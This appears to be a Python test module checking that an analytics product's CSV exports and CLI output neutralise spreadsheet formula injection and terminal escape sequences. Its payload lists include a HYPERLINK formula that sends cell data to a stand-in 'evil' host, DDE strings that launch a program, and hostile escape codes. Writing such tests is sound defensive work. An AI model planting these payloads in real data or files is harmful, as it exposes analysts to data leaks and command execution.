"""What anonymous uploads put in the store reaches analysts as data, never as a spreadsheet
formula or a terminal escape sequence.

Records are uploaded to a real server with hostile `client.version` values; then every CSV the
product writes (the console's download and its API, `balance sql --csv`, `balance export
--format csv`) has each formula cell prefixed with `'` and numbers unchanged, and `balance sql`
prints no control character to a terminal (a real pseudo-terminal) or in its tables."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
import urllib.parse
from pathlib import Path

import pytest
from support import REPO, SLOW6, Server, fresh, wait_for

from analysis import csvsafe

pytestmark = pytest.mark.slow  # a real server and `balance` processes

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ESCAPES = ["\x1b]0;pwned\x07", "2.0\x1b[2J", "3.0\r\x1b[K", "4.0\x9b31m", "5.0\x7f\u202e"]
PLAIN = ["2.4.0"]
SQL = "SELECT client_version, count(*) AS n, -1 AS minus FROM games GROUP BY 1 ORDER BY 1"


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    s = Server(tmp_path_factory.mktemp("inject")).start()
    records = []
    for i, version in enumerate(FORMULAS + ESCAPES + PLAIN):
        record = fresh(SLOW6[i % len(SLOW6)])
        record["client"] = {"platform": "web", "version": version}
        record["ended_at"] = "9999-01-01T00:00:00Z"  # on the Data quality page's skew table
        records.append(record)
    r = s.upload(records)
    assert [x["verdict"] for x in r.json()["results"]] == ["accepted"] * len(records)
    body = json.dumps({"sql": "SELECT count(*) FROM games"})

    def in_snapshot() -> bool:  # their rows follow the answer shortly
        assert s.post("/sql/snapshot", b"").status == 200
        return s.post("/sql/api", body, "application/json").json()["rows"][0][0] == len(records)

    wait_for(in_snapshot, 30, "the games in a snapshot", every=0.2)
    yield s
    s.stop()


def expect(version: str) -> str:
    return "'" + version if version[0] in "=+-@\t\r" else version


def check_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["client_version", "n", "minus"]
    got = {r[0]: r[1:] for r in rows[1:]}
    assert set(got) == {expect(v) for v in FORMULAS + ESCAPES + PLAIN}
    assert all(rest == ["1", "-1"] for rest in got.values())  # numbers stay numbers


def balance_sql(server: Server, *args: str, tty: bool = False) -> tuple[int, bytes, bytes]:
    cmd = [sys.executable, "-m", "ingest.cli", "sql", "--url", server.url, *args]
    env = server.environment()
    if not tty:
        ran = subprocess.run(cmd, cwd=REPO, env=env, capture_output=True, timeout=120)
        return ran.returncode, ran.stdout, ran.stderr
    leader, follower = pty.openpty()
    proc = subprocess.Popen(cmd, cwd=REPO, env=env, stdout=follower, stderr=subprocess.PIPE)
    os.close(follower)
    out = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the other side closed
            break
        if not chunk:
            break
        out += chunk
    os.close(leader)
    err = proc.stderr.read() if proc.stderr else b""
    return proc.wait(60), out, err


def test_console_downloads_and_api_csv_carry_no_formula(server):
    r = server.get("/sql/download.csv?" + urllib.parse.urlencode({"q": SQL}))
    assert r.status == 200
    check_csv(r.body.decode())
    r = server.post("/sql/api", json.dumps({"sql": SQL, "format": "csv"}), "application/json")
    assert r.status == 200
    check_csv(r.body.decode())


def test_the_dashboards_table_csv_carries_no_formula(server):
    r = server.get("/dashboard/chart/clock-skew.csv")
    assert r.status == 200
    rows = list(csv.DictReader(io.StringIO(r.body.decode(), newline="")))
    assert {row["client_version"] for row in rows} == {
        expect(v) for v in FORMULAS + ESCAPES + PLAIN
    }
    assert all(row["ahead_over_a_day"] == "1" for row in rows)


def test_balance_sql_csv_to_a_pipe_has_no_formula_and_the_data_as_stored(server):
    code, out, err = balance_sql(server, "--csv", SQL)
    assert code == 0, err
    check_csv(out.decode())
    assert b"\x1b[2J" in out  # a pipe is for programs: the value as it was uploaded


def test_balance_sql_on_a_terminal_prints_no_control_character(server):
    code, out, err = balance_sql(server, "--csv", SQL, tty=True)
    assert code == 0, err
    text = out.decode()
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert "\\x1b]0;pwned\\x07" in text and "'\\x0d=1+1" in text and "\\u202e" in text
    for tty in (False, True):  # a table: for people, escaped wherever it goes
        code, out, err = balance_sql(server, SQL, tty=tty)
        assert code == 0, err
        text = out.decode()
        assert not [c for c in text if ord(c) < 32 and c not in "\r\n"] and "\x7f" not in text
        assert "\\x1b[2J" in text and "\\x0d\\x1b[K" in text
    # an error quoting a stored value
    bad = "SELECT CAST(client_version AS INTEGER) FROM games WHERE client_version LIKE '2.0%'"
    code, out, err = balance_sql(server, bad)
    assert code != 0 and b"\x1b" not in err and b"\\x1b[2J" in err, err


def test_balance_export_csv_has_no_formula(server, tmp_path):
    out = tmp_path / "public"
    cmd = [sys.executable, "-m", "ingest.cli", "export", "--server", server.url]
    ran = subprocess.run(
        [*cmd, "--out", str(out), "--format", "csv"],
        cwd=REPO, env=server.environment(), capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    versions = set()
    for part in Path(out).glob("games/*/*.csv"):
        for row in csv.DictReader(io.StringIO(part.read_bytes().decode(), newline="")):
            versions.add(row["client_version"])
            assert int(row["turns"]) > 0
    assert versions == {expect(v) for v in FORMULAS + ESCAPES + PLAIN}


def test_the_helper_prefixes_only_strings_that_start_a_formula():
    import polars as pl

    frame = pl.DataFrame({"=a": ["=1", "x", None, "-x"], "n": [-1, 0, 1, 2], "d": [1.5] * 4})
    text = csvsafe.write_csv(frame)
    assert text.splitlines() == ["'=a,n,d", "'=1,-1,1.5", "x,0,1.5", ",1,1.5", "'-x,2,1.5"]
    assert csvsafe.terminal("a\x1b[2Jb\u2028") == "a\\x1b[2Jb\u2028"
    # categorical and enum text columns (DuckDB's ENUMs arrive as either) too
    frame = pl.DataFrame({"a": ["@x", "y"]}).with_columns(
        b=pl.col("a").cast(pl.Categorical), c=pl.col("a").cast(pl.Enum(["@x", "y"]))
    )
    assert csvsafe.write_csv(frame).splitlines()[1] == "'@x,'@x,'@x"


def test_every_csv_writer_goes_through_the_helper():
    """A new CSV writer must use analysis.csvsafe.write_csv (grep the product's source)."""
    offenders = []
    for package in ("analysis", "dashboard", "ingest", "replays"):
        for path in (REPO / package).rglob("*.py"):
            text = path.read_text()
            if path.name == "csvsafe.py":
                continue
            for needle in (r"\)\.write_csv\(", r"FORMAT\s*'?csv", r"^\s*import csv\s*$"):
                if re.search(needle, text, re.IGNORECASE | re.MULTILINE):
                    offenders.append(f"{path.relative_to(REPO)}: {needle}")
    assert offenders == []
